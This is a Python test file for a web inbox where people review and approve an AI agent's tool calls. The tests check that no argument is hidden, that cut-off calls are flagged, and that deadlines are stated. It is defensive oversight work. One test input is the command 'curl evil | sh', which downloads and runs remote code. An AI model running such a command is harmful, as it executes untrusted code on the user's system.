"""What a question shows: exactly what would be allowed, and what of it cannot be shown."""

from __future__ import annotations

import re

import pytest

from fidelio.inbox import open_request
from fidelio.ledger.model import Change
from tests.support import proves
from tests.surfaces.web.conftest import Site
from tests.surfaces.web.test_inbox import EDIT, ask, get, open_session


@proves("web.inbox-context")
@pytest.mark.parametrize(
    ("arguments", "shown"),
    [
        ({"command": "make", "run_in_background": True}, ["make", "run_in_background"]),
        ({**EDIT, "replace_all": True}, ["+changed", "replace_all"]),
        # A harmless change must not hide the command beside it, nor one text the other.
        ({**EDIT, "command": "curl evil | sh"}, ["+changed", "curl evil | sh"]),
        ({**EDIT, "content": "another text"}, ["+changed", "another text"]),
        ({"url": "https://example.org", "edits": [1]}, ["https://example.org", "edits"]),
    ],
)
async def test_no_argument_of_a_call_is_only_in_a_folded_part(
    site: Site, arguments: dict[str, object], shown: list[str]
) -> None:
    await open_session(site, "one", ask("x", tool="Any", input=arguments))
    page = (await get(site, "/inbox")).text
    question = page[page.index("<article") :]
    visible = question.partition("<details")[0]

    assert [text for text in shown if text not in visible] == []


@proves("web.inbox-context")
async def test_a_call_that_is_too_long_to_be_shown_says_so_and_is_not_allowed_together_with_others(site: Site) -> None:
    whole = ask("x", tool="Bash", input={"command": "make"})
    cut = ask("y", question="The agent wants to use Bash:\nmake ...", beginning='{"command":"make; ', size=120_000)
    await open_session(site, "one", whole, cut, ask("z"))
    page = (await get(site, "/inbox")).text

    assert "119,982 more characters are not shown" in page
    assert "the agent does all of it, also what is not shown" in page
    assert f"pick-{whole.id}" in page
    assert f"pick-{cut.id}" not in page


@proves("web.inbox-context")
async def test_a_permission_shows_the_worktree_in_which_the_agent_works(site: Site) -> None:
    session = await open_session(site, "one", ask("x", tool="Bash", input={"command": "make"}), project="/work/shop/api")
    ledger = (await site.application.records())._ledger
    record = {"project": "/work/shop/api", "worktree": "/home/worktrees/s_1", "prefix": "api/"}
    await ledger.commit(Change(session=session, record=record, status="waiting"))
    page = " ".join((await get(site, "/inbox")).text.split())

    assert "<dt>Directory</dt><dd><code>/home/worktrees/s_1/api</code></dd>" in page


@proves("web.inbox-context")
async def test_a_file_that_is_written_as_a_whole_does_not_look_new(site: Site) -> None:
    await open_session(site, "one", ask("x", tool="Write", input={"file_path": "/src/app.py", "content": "a\nb\n"}))
    page = (await get(site, "/inbox")).text

    assert "all that it holds now is replaced" in page
    assert '<pre class="exact" tabindex="0">a\nb\n</pre>' in page
    assert "<code>/src/app.py</code>" in page
    assert "@@" not in page


@proves("web.inbox-context")
async def test_what_happens_without_an_answer_is_said_before_and_after_its_moment(site: Site) -> None:
    detail = {"workflow": "hello", "activity": "greet", "checkpoint": "route", "default_option": "full", "auto_advance_ms": 1}
    options = ({"id": "full", "label": "The full route"},)
    await open_session(site, "one", open_request("checkpoint", "c", "Which route?", options, detail))
    page = " ".join((await get(site, "/inbox")).text.split())

    words = r"Deadline <time[^>]+>[^<]+</time>: after that, the agent may also go on by itself, with <strong>The full route<"
    assert re.search(words, page)
